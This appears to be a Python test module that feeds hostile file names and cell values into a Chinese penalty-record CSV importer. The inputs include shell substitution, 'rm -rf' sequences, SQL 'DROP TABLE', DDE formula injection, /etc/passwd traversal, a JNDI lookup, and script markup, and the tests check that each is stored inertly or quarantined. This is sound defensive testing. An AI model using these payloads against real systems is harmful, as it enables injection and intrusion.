"""Names and values that would do something elsewhere: here they are text, bounded, never run, never a path."""

from __future__ import annotations

import os
from typing import Any

from tests.hostile.base import Base, csv_bytes, holds
from tests.hostile.case import Case

B = Base()
TABLE = csv_bytes(B.table)
CODE = B.rows[1]["credit_code"] or ""

NAMES = {
    "option": "--help.csv",
    "option_short": "-rf",
    "shell_substitution": "$(touch pwned).csv",
    "shell_backticks": "`id`.csv",
    "shell_sequence": "a;rm -rf x;&&|.csv",
    "quotes": 'it\'s "示例".csv',
    "line_break": "处罚\n第二行.csv",
    "carriage_return_and_tab": "处\r罚\t.csv",
    "bidi": "处罚\u202egnp.csv",
    "dots": "..处罚..csv",
    "dot_file": ".csv",
    "blank": " ",
    "device_of_windows": "CON.csv",
    "format": "%s%n{0}{x!r}.csv",
    "wildcards": "*?[a-z].csv",
    "comma_and_semicolon": "a,b;c.csv",
    "longest": "处" * 83 + ".csv",
    "not_utf8": os.fsdecode(b"\xb4\xa6\xb7\xa3.csv"),
    "not_utf8_ending": os.fsdecode(b"cf.\xb4\xa6\xff"),
    "ending_of_markup": "处罚.<b>x",
    "ending_of_a_workbook": "处罚.xlsx",
    "ending_of_records": "处罚.json",
    "ending_of_a_program": "处罚.exe",
    "colon_of_an_address": "file:cf.csv",
    "looks_like_hive": "dataset=x",
}

VALUES = {
    "sql": "'); DROP TABLE staged; --",
    "sql_quotes": '" or ""=" \'\' \\\' $$x$$ ; select 1',
    "shell": "$(reboot) `reboot` ; reboot",
    "formula": '=HYPERLINK("http://example.invalid","示例")',
    "formula_dde": "=cmd|'/C calc'!A0",
    "formula_at": "@SUM(1+1)",
    "formula_plus": "+1+1",
    "path": "../../../../etc/passwd",
    "path_unc": "\\\\example\\share\\x",
    "lookup": "${jndi:ldap://example.invalid/a}",
    "template": "{{7*7}}{% raw %}#{7*7}<%= 7*7 %>",
    "format": "%s %n {0} {x.__class__} %(x)s",
    "regex": "(a+)+$ [[:alpha:]] \\1 (?R) .*",
    "regex_bomb": "a" * 3000 + "!",
    "backslashes": "\\n\\t\\x00\\u0000\\",
    "percent_escapes": "%00%0a%2e%2e%2f",
    "link": "[示例](javascript:alert(1))",
    "null_words": "undefined NaN nil None",
}
MARKUP = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "closing": "</td></table><h1>示例</h1>",
}
NUMBERS = {
    "endless": "9" * 5000,
    "overflow": "1e999999999",
    "infinite": "Infinity",
    "not_a_number": "NaN",
    "negative": "-5",
    "hexadecimal": "0x10",
    "many_decimals": "0." + "1" * 500,
    "many_groups": "1," * 3000 + "1",
    "capitals_without_end": "壹" * 5000 + "元",
    "two_points": "1.2.3",
    "superscript": "1²",
    "circled": "①②",
    "fraction": "1½",
    "other_digits": "١٢",
}
DAYS = {
    "endless": "2019" + "-01" * 3000,
    "digits": "2" * 5000,
    "blanks_inside": "2019" + " " * 5000 + "-01-07x",
    "huge_year": "99999999-01-01",
    "huge_epoch": "9" * 18,
    "negative_epoch": "-1546790400000",
    "words": "昨天" * 2000,
    "superscript": "2019-01-0⁷",
    "circled": "2019-01-⑦",
}
CODES = {
    "endless": "9" * 5000,
    "wildcards": "%%%%%%%%%%%%%%%%%%",
    "eighteen_zeros": "0" * 18,
    "eighteen_nines": "9" * 18,
    "quote_inside": "91429700YH00010'97",
    "circled": f"{CODE[:5]}⑦{CODE[6:]}",
    "superscript": f"{CODE[:5]}⁷{CODE[6:]}",
}


def named(id: str, name: str) -> Case:
    return Case(f"name_{id}", name, holds(TABLE), accepted=B.truths())


def kept(id: str, value: str, **more: Any) -> Case:
    """The value in a name, a free text and an unmapped column loads as it is."""
    table = B.spoiled(1, content=value, remark=value)
    table = [[*line, cell] for line, cell in zip(table, ("示例另列", "甲", value, "乙", "丙"), strict=True)]
    accepted = (B.truth(0), B.truth(1, content=value, remark=value), B.truth(2), B.truth(3))
    return Case(f"value_{id}", "处罚.csv", holds(csv_bytes(table)), accepted=accepted, **more)


def comes_back(id: str, rule: str, **cells: str) -> Case:
    content = csv_bytes(B.spoiled(1, **cells))
    return Case(f"value_{id}", "处罚.csv", holds(content), accepted=B.truths(1), quarantined=((3, rule),))


def heading(id: str, text: str, **more: Any) -> Case:
    """A column with a hostile heading beside the good ones: reported, its cells not stored."""
    table = [[*line, cell] for line, cell in zip(B.table, (text, *["未入库的内容"] * 4), strict=True)]
    more = {"says": ("未识别的列",), "never": ("未入库的内容",)} | more
    return Case(f"heading_{id}", "处罚.csv", holds(csv_bytes(table)), accepted=B.truths(), **more)


CASES = [
    *(named(id, name) for id, name in NAMES.items()),
    *(kept(id, value) for id, value in VALUES.items()),
    *(kept(f"markup_{id}", value, says=("网页标记",)) for id, value in MARKUP.items()),
    *(comes_back(f"amount_{id}", "R11|R02|R20", fine_wan=value) for id, value in NUMBERS.items()),
    *(comes_back(f"day_{id}", "R04|R20", decided_on=value) for id, value in DAYS.items()),
    *(comes_back(f"code_{id}", "R05|R10|R02|R20", credit_code=value) for id, value in CODES.items()),
    comes_back("name_of_ten_thousand_characters", "R02", party_name="示" * 10_000),
    comes_back("number_of_ten_thousand_characters", "R02", doc_no="示" * 10_000),
    comes_back("free_text_too_long", "R02", content="示" * 10_001),
    comes_back("state_unknown_and_long", "R03", state="示例" * 2000),
    heading("sql", 'x"; DROP TABLE staged; --'),
    heading("quotes", "\"'`"),
    heading("markup", "<script>x</script>"),
    heading("formula", "=1+1"),
    heading("like_a_cell_column", "c0"),
    heading("like_a_row_number", "row_no"),
    heading("endless", "列" * 50_000),
    heading("with_an_id", "42979719000201900X", never=("42979719000201900X", "未入库的内容")),
    heading("line_break_and_bidi", "甲\n\u202e乙"),
]
